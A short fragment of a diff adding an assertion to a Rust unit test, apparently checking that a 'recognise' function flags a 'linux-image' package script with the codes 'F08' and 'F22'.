+            recognise(&format!("linux-image-{version}"), &script).unwrap(),
+            ["script [] F08 F22"]
+        );
     }
 }
